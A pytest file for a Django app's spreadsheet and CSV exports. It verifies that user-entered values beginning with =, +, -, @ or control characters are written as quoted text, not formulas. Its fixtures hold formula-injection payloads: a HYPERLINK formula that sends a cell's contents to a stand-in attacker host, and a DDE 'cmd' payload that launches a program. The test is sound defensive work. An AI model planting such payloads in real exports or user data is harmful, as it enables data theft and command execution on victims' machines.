"""Every export writes what people typed as text, never as a formula (issue 11, hole 3): the campaign workbook,
the registry in XLSX and CSV, and the outgoing register, downloaded through their real URLs."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from core.roles import Role
from templates_docs.services import register_outgoing
from tests.factories import CarrierFactory, PledgeFactory
from workflows.pledges.models import Pledge

HYPERLINK = '=HYPERLINK("http://ke-xau.example/?"&A2,"Bấm vào đây")'
LEADS = [HYPERLINK, "+84 205 3870 000", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.fixture
def hostile(campaign):
    carriers = [
        CarrierFactory(name=HYPERLINK, phone=LEADS[1], representative=LEADS[2], address=LEADS[3]),
        CarrierFactory(name="Bưu cục " + LEADS[4], phone=LEADS[5], address=LEADS[6]),
    ]
    PledgeFactory(campaign=campaign, carrier=carriers[0], status=Pledge.Status.DECLINED, declined_reason=HYPERLINK)
    PledgeFactory(campaign=campaign, carrier=carriers[1], status=Pledge.Status.DECLINED, declined_reason=LEADS[3])
    return carriers


def _assert_text_only(data: bytes) -> list[str]:
    """No formula anywhere in the workbook; every risky string cell is text with the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r＝":
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def test_campaign_workbook_keeps_decline_reasons_and_names_as_text(client, hostile, campaign, make_user):
    client.force_login(make_user(Role.STAFF))
    response = client.get(reverse("pledges:campaign_export", args=[campaign.slug, "xlsx"]))
    assert response.status_code == 200
    texts = _assert_text_only(response.content)
    assert texts.count(HYPERLINK) == 2  # the name and the decline reason, exactly as typed
    assert LEADS[3] in texts


def test_registry_exports_keep_names_and_phones_as_text(client, hostile, make_user):
    client.force_login(make_user(Role.STAFF))
    xlsx = client.get(reverse("pledges:export_carriers", args=["xlsx"]))
    assert set(LEADS) - {LEADS[4]} <= set(_assert_text_only(xlsx.content))
    response = client.get(reverse("pledges:export_carriers", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for value in set(LEADS) - {LEADS[4]}:
        assert "'" + value in cells and value not in cells, repr(value)
    assert "Bưu cục " + LEADS[4] in cells  # a lead in the middle is harmless and left alone


def test_outgoing_register_keeps_subjects_as_text(client, make_user):
    with transaction.atomic():
        register_outgoing(
            doc_type="cong-van",
            issued_date=date(2026, 3, 2),
            agency_abbreviation="STTTT",
            drafting_unit="TTr",
            subject=HYPERLINK,
            signer_name="@Nguyễn Văn A",
            recipients=["-Như trên"],
        )
    client.force_login(make_user(Role.CLERK))
    response = client.get(reverse("templates_docs:register"), {"year": 2026, "export": "xlsx"})
    assert response.status_code == 200
    texts = _assert_text_only(response.content)
    assert "@Nguyễn Văn A" in texts and "-Như trên" in texts  # the subject is printed after its notation
